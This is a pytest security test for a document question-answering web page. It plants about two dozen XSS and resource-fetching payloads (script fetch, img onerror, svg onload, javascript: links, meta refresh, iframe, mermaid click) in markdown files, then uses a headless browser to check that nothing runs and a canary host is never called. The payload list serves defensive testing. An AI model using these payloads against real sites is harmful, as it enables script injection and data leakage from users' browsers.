"""The page over documents that attack it at every place, in a real browser, beside a host that counts who asks it."""

import shutil

import pytest

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
QUESTION = "How much memory does Walnut-7B need?"


def payloads(url):
    return (
        f"![x]({url}/md?q=secret)", f"![x][r]\n\n[r]: {url}/reference", f'<img src="{url}/img" onerror="alert(1)">', f'<img srcset="{url}/srcset 1x">', f'<video src="{url}/video" poster="{url}/poster"></video>',
        f'<audio src="{url}/audio" autoplay></audio>', f'<p style="background:url({url}/style)">x</p>', f"<style>@import url({url}/import);</style>", f'<link rel="stylesheet" href="{url}/link">',
        f'<iframe src="{url}/iframe"></iframe>', f'<object data="{url}/object"></object>', f'<embed src="{url}/embed">', f'<meta http-equiv="refresh" content="0;url={url}/refresh">', f'<base href="{url}/">',
        f"<script>fetch('{url}/script')</script>", f"<svg onload=\"fetch('{url}/svg')\"></svg>", f"<details open ontoggle=\"fetch('{url}/toggle')\">x</details>", f'<form action="{url}/form"><button autofocus onfocus="this.form.submit()">x</button></form>',
        f"[click](javascript:fetch('{url}/js'))", f"$$\\href{{javascript:fetch('{url}/tex')}}{{x}}$$ \\(\\includegraphics{{{url}/tex2}}\\)", f"```mermaid\ngraph TD\nA-->B\nclick A \"{url}/mermaid\"\n```",
        f"<math><mtext><img src={url}/math></mtext></math>", f"<a href={url}/prefetch rel=prefetch ping={url}/ping>x</a>", f"<div/onmouseover=fetch('{url}/over')>x</div>", f"&lt;img src={url}/entity onerror=alert(1)&gt;",
    )  # fmt: skip


@pytest.fixture
def hostile(tmp_path, canary):
    """A folder whose documents hold the payloads in text, title, section, table and file name."""
    folder = tmp_path / "docs"
    folder.mkdir()
    for number, payload in enumerate(payloads(canary.url)):
        line = " ".join(payload.split())
        (folder / f"d{number}.md").write_text(
            f"# Walnut {line}\n\n## Memory {line}\n\nWalnut-7B needs {number} GB of memory {payload}\n\n"
            f"| Model {line.replace('|', '')} | Parameters |\n|---|---|\n| Elm-{number}B {line.replace('|', '')} | {number}B |\n"
        )  # fmt: skip
    (folder / "<img src=x onerror=alert(1)>.md").write_text(f"# Name\n\nWalnut-7B. {payloads(canary.url)[2]}\n")
    return folder


@pytest.fixture
def browser():
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright drives the browser")
    if CHROMIUM is None:
        pytest.skip("no Chromium here: apt-get install chromium")
    with sync_api.sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield started
        started.close()


@pytest.mark.long
def test_documents_that_attack_the_page_run_nothing_and_call_nobody(serve_also, hostile, canary, browser):
    complaints, asked = [], []
    with serve_also(documents=hostile) as server:
        page = browser.new_context(locale="en-US").new_page()
        page.on("dialog", lambda dialog: (complaints.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: asked.append(request.url))
        home = f"http://127.0.0.1:{server.port}/"
        page.goto(home)
        page.wait_for_selector("#question textarea")
        for number, question in enumerate(
            (
                QUESTION,
                "Compare all models",
                "Which models are there?",
                canary.url,
                f'<img src="{canary.url}/echo" onerror=alert(9)>',
            )
        ):
            page.fill("#question textarea", question)
            page.click("#send")
            page.locator(".sq-answered, .sq-refused, .sq-alert").nth(number).wait_for(timeout=60_000)
            for at in range(min(page.locator(".sq-mark, .sq-source").count(), 6)):
                page.locator(".sq-mark, .sq-source").nth(at).click()
                page.wait_for_selector("#source section")
        for view in range(page.locator("#views label").count()):
            page.locator("#views label").nth(view).click()
            page.wait_for_timeout(700)
        page.reload()
        page.wait_for_selector("#question textarea")
        page.wait_for_timeout(1_000)
        harm = page.locator(
            "#desk :is(img, script, iframe, object, embed, form, video, audio, math):not([src^='data:'])"
        ).count()
        assert page.url.startswith(home)

    assert complaints == []
    assert canary.asked == []
    assert [url for url in asked if not url.startswith((home, "data:", "blob:"))] == []
    assert harm == 0
